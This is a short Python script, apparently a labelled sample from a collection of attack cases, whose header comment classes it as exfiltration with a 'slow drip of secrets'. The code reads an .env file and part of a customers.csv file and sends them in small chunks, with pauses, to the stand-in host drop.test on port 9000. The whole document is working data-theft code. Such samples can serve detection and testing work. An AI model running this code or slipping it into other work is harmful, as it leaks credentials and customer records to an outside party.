# class: exfiltration; possible: low medium; needs: data; style: slow drip of secrets to an unnamed peer
import socket
import time

secret = open("/data/.env", "rb").read() + open("/data/customers.csv", "rb").read()[:4000]
for i in range(0, len(secret), 100):
    with socket.create_connection(("drop.test", 9000), timeout=5) as s:
        s.sendall(secret[i:i + 100])
    time.sleep(0.8)
